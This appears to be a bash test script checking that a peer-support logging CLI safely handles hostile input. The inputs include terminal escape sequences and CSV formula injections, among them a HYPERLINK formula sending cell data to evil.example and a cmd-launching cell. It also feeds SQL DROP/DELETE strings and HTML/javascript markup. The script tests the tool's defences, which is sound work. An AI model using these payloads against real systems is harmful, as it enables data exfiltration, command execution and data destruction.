# Output that cannot hurt the reader: terminal escapes, spreadsheet formulas, SQL
# metacharacters and invalid UTF-8 in stored text.
source "$(dirname "$0")/lib.sh"

check() { if eval "$1"; then pass; else fail "$2"; fi; }
# out_has_byte PATTERN: the raw stdout (file) holds PATTERN, a $'...' byte string.
out_has_byte() { LC_ALL=C grep -q "$1" "$WORK/out"; }
err_has_byte() { LC_ALL=C grep -q "$1" "$WORK/err"; }

run peer add P1 --referred-by "$(printf 'court \033[31mRED\033]0;title\007 \r done')"
expect_rc 0 "peer add"

# ---- terminal escapes in a note -------------------------------------------------------------
OSC52=$'\033]52;c;AAAA\007'
NOTE="start ${OSC52} then "$'\033[31m'"red"$'\033[0m'" bare"$'\r'"CR tab"$'\t'"kept"$'\n'"line two C1:"$'\xc2\x9b'"31m DEL:"$'\x7f'" end"
run session add --peer P1 --support emotional --duration 30m --note "$NOTE" \
    --disclosure $'to help \033[2Jclear'
expect_rc 0 "a note full of control characters is accepted"
id=$OUT

run session show "$id"
expect_rc 0 "session show"
check '! out_has_byte $'"'"'\x1b'"'"'' "session show prints no raw ESC byte"
check '! out_has_byte $'"'"'\a'"'"'' "session show prints no raw BEL byte"
check '! out_has_byte $'"'"'\r'"'"'' "session show prints no bare CR"
check '! out_has_byte $'"'"'\x7f'"'"'' "session show prints no DEL"
check '! out_has_byte $'"'"'\xc2\x9b'"'"'' "session show prints no C1 control (U+009B CSI)"
expect_out_has "^[]52;c;AAAA^G" "OSC 52 shown in caret notation"
expect_out_has "^[[31mred^[[0m" "CSI colour shown in caret notation"
expect_out_has "bare^MCR" "bare CR shown as ^M"
expect_out_has $'tab\tkept' "tab kept"
expect_out_has "  line two C1:"$'\xef\xbf\xbd'"31m DEL:^? end" "newline kept, C1 as U+FFFD, DEL as ^?"
expect_out_has "Disclosure: yes, purpose: to help ^[[2Jclear" "disclosure purpose made safe too"

run session show "$id" --format json
expect_rc 0 "session show --format json"
check 'jq -e . "$WORK/out" >/dev/null' "json is valid"
check '! out_has_byte $'"'"'\x1b'"'"'' "json escapes ESC"
expect_out_has '\u001b]52;c;AAAA\u0007' "ESC and BEL as \\u escapes"
expect_eq "$(jq -j .note "$WORK/out")" "$NOTE" "the note round-trips exactly through json"

run session list --format json --with-notes
check '! out_has_byte $'"'"'\x1b'"'"'' "session list json --with-notes escapes ESC"
run session list --format ndjson --with-notes
check '! out_has_byte $'"'"'\x1b'"'"'' "session list ndjson --with-notes escapes ESC"
expect_eq "$(jq -j .note "$WORK/out")" "$NOTE" "ndjson note round-trips"
run session list
check '! out_has_byte $'"'"'\x1b'"'"'' "session list table has no ESC"

run peer show P1
expect_rc 0 "peer show"
check '! out_has_byte $'"'"'\x1b'"'"'' "peer show prints no raw ESC from the referral source"
expect_out_has "court ^[[31mRED^[]0;title^G ^M done" "referral source in caret notation"

# The same note through stdin.
run_with_input "$NOTE" session add --peer P1 --support emotional --duration 5m --note -
expect_rc 0 "control characters via --note -"
run session show "$OUT"
check '! out_has_byte $'"'"'\x1b'"'"'' "no raw ESC for a note from stdin"

# Echoing a bad value back in an error message must not carry its escapes either.
run peer add $'P\033]52;c;AAAA\007'
expect_rc 3 "a code with control characters is refused"
check '! err_has_byte $'"'"'\x1b'"'"'' "the error message does not echo a raw ESC"

# ---- spreadsheet formulas in CSV ------------------------------------------------------------
for code in "=1+1" "+1" "@SUM" "=HYPERLINK"; do
    run peer add "$code"
    expect_rc 3 "a peer code cannot start a formula: $code"
done

run session add --peer P1 --support emotional --duration 10m \
    --note '=HYPERLINK("http://evil.example/?d="&A1,"click me")' --disclosure '+cmd|" /C calc"!A0'
expect_rc 0 "a note that is a formula"
f1=$OUT
run session add --peer P1 --support emotional --duration 10m --note '@SUM(1+1)' --disclosure '-2+3'
expect_rc 0 "more formula prefixes"
f2=$OUT
run session add --peer P1 --support emotional --duration 10m --note $'\t=1+1'
expect_rc 0 "a tab-led formula"
f3=$OUT

run session list --format csv --with-notes
expect_rc 0 "csv --with-notes"
expect_out_has $'\r\n'"$f1,2026-11-18,,10,P1,emotional,in-person,office,yes,,\"'+cmd|\"\" /C calc\"\"!A0\",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click me\"\")\",,,,0,no"$'\r' \
    "=HYPERLINK and + cells get a leading ' inside an RFC 4180 quoted cell"
expect_out_has $'\r\n'"$f2,2026-11-18,,10,P1,emotional,in-person,office,yes,,'-2+3,'@SUM(1+1),,,,0,no"$'\r' \
    "- and @ cells get a leading '"
expect_out_has $'\r\n'"$f3,2026-11-18,,10,P1,emotional,in-person,office,no,,,'"$'\t=1+1,,,,0,no\r' \
    "a tab-led cell gets a leading '"
check '! LC_ALL=C grep -q "[,]=HYPERLINK" "$WORK/out"' "no cell starts with ="

run session list --format csv
expect_out_lacks "HYPERLINK" "session list csv carries no note by default"
expect_out_lacks "calc" "nor the disclosure purpose"
run export --week this --format csv
expect_rc 0 "export csv"
expect_out_lacks "HYPERLINK" "export csv carries no free text"
expect_out_lacks "calc" "export csv carries no disclosure purpose"
check '! out_has_byte $'"'"'\x1b'"'"'' "export csv has no ESC"
run export --week this --format json
check '! out_has_byte $'"'"'\x1b'"'"'' "export json has no ESC"
expect_out_lacks "52;c;AAAA" "export json carries no note"

# ---- SQL metacharacters ---------------------------------------------------------------------
SQL="'); DROP TABLE session;-- \" OR 1=1; --"
run session add --peer P1 --support emotional --duration 10m --note "$SQL" --disclosure "x'); DELETE FROM peer;--"
expect_rc 0 "a note with SQL in it"
sql_id=$OUT
run session show "$sql_id" --format json
expect_json '.note' "$(jq -cn --arg s "$SQL" '$s')" "SQL in a note is stored verbatim"
expect_json '.disclosure_purpose' '"x'"'"'); DELETE FROM peer;--"' "SQL in a purpose stored verbatim"
run session show "$sql_id"
expect_out_has "  $SQL" "and shown verbatim"
run session list --format json
expect_json 'length' "$sql_id" "every session is still there"
run peer add P2 --referred-by "'); DROP TABLE peer;--"
expect_rc 0 "SQL in a referral source"
run peer show P2 --format json
expect_json '.referred_by' '"'"'"'); DROP TABLE peer;--"' "stored verbatim"
run session list --peer "P1' OR '1'='1"
expect_rc 4 "a code with SQL in it matches no peer"
run session list --peer "%" --format json
expect_rc 4 "a LIKE wildcard is not a pattern"
run peer list --format json
expect_json '[.[].code]' '["P1","P2"]' "the peer table is intact"

# ---- invalid UTF-8 --------------------------------------------------------------------------
BAD=$'bad \xff\xfe bytes \xc3\x28 and \xe2\x82 cut \xed\xa0\x80 surrogate \xc0\xaf overlong'
run session add --peer P1 --support emotional --duration 10m --note "$BAD"
expect_rc 0 "a note with invalid UTF-8"
bad_id=$OUT
run session show "$bad_id"
expect_rc 0 "session show does not crash on invalid UTF-8"
expect_out_has "bad "$'\xef\xbf\xbd\xef\xbf\xbd'" bytes" "invalid bytes shown as U+FFFD"
check 'iconv -f UTF-8 -t UTF-8 "$WORK/out" >/dev/null 2>&1' "session show output is valid UTF-8"
run session show "$bad_id" --format json
expect_rc 0 "session show --format json on invalid UTF-8"
check 'jq -e . "$WORK/out" >/dev/null' "json stays valid"
check 'iconv -f UTF-8 -t UTF-8 "$WORK/out" >/dev/null 2>&1' "json output is valid UTF-8"
run session list --format json --with-notes
expect_rc 0 "session list json with invalid UTF-8"
check 'jq -e "length > 0" "$WORK/out" >/dev/null' "list json stays valid"
run session list --format ndjson --with-notes
expect_rc 0 "session list ndjson with invalid UTF-8"
check 'jq -e . "$WORK/out" >/dev/null' "every ndjson line stays valid"
run session list --format csv --with-notes
expect_rc 0 "session list csv with invalid UTF-8"
run peer add P3 --referred-by $'caf\xe9'
expect_rc 0 "a referral source in Latin-1"
run peer show P3 --format json
check 'jq -e . "$WORK/out" >/dev/null' "peer show json stays valid"
run peer list --all --format json
check 'jq -e . "$WORK/out" >/dev/null' "peer list json stays valid"

# ---- messages on stderr: stored and typed text never drives the terminal ------------------------
# err_clean WHAT: no ESC and no BEL byte reached stderr.
err_clean() {
    check '! err_has_byte $'"'"'\x1b'"'"'' "$1: no raw ESC on stderr"
    check '! err_has_byte $'"'"'\a'"'"'' "$1: no raw BEL on stderr"
}
TITLE=$'\033]0;pwned\a'
mkdir -p "$XDG_CONFIG_HOME/peerlog"
printf '[boundaries.severity]\ncontact_hours = "block"\n' >"$XDG_CONFIG_HOME/peerlog/config.toml"
run session add --peer P1 --support emotional --duration 30m --dual-relationship "dr${TITLE}" \
    --start 23:00 --override "crisis${TITLE}"
expect_rc 0 "a session with escapes in its dual relationship and override reason"
expect_err_has "overridden: crisis^[]0;pwned^G" "the override reason is shown in caret notation"
err_clean "the flag warnings"
esc_session=$OUT
run session edit "$esc_session" --duration 20m --override "again${TITLE}"
err_clean "an edit's warnings"
rm "$XDG_CONFIG_HOME/peerlog/config.toml"
run consent add P1 --recipient "Dr${TITLE}" --purpose care --info notes --share contact,attendance,support,notes --signed 2026-11-01 \
    --expires 2027-11-01
expect_rc 0 "a consent recipient with escapes"
err_clean "consent add's confirmation"
run export --identified --recipient "Dr${TITLE}" --week this
expect_rc 0 "an identified export to that recipient"
err_clean "the identified export's messages"
run session add --peer P1 --support emotional --duration 5m "extra${TITLE}"
expect_rc 2 "an unexpected argument with escapes"
expect_err_has "not expected: extra^[]0;pwned^G" "the usage error shows it in caret notation"
err_clean "the usage error"

# ---- markup in markdown output ----------------------------------------------------------------
# An override reason is typed text that the boundary report shows (a rule set to block needs one).
mkdir -p "$WORK/block/peerlog"
printf '[boundaries.severity]\ncontact_hours = "block"\n' >"$WORK/block/peerlog/config.toml"
XDG_CONFIG_HOME="$WORK/block" run session add --peer P1 --support emotional --duration 30m \
    --start 23:30 --note "late call" --override '<img src=x onerror=alert(1)> [click](javascript:alert(1)) a|b *now* #1'
expect_rc 0 "an override reason that is markup is saved"
run report boundaries --week this --format markdown
expect_rc 0 "report boundaries --format markdown"
expect_out_has '\<img src=x onerror=alert(1)\> \[click\](javascript:alert(1)) a\|b \*now\* \#1 |' \
    "the reason is escaped: no tag, no link, no emphasis, no extra table cell"
expect_out_lacks '| <img' "no raw tag reaches the markdown"
expect_out_lacks '[click]' "no link reaches the markdown"

finish
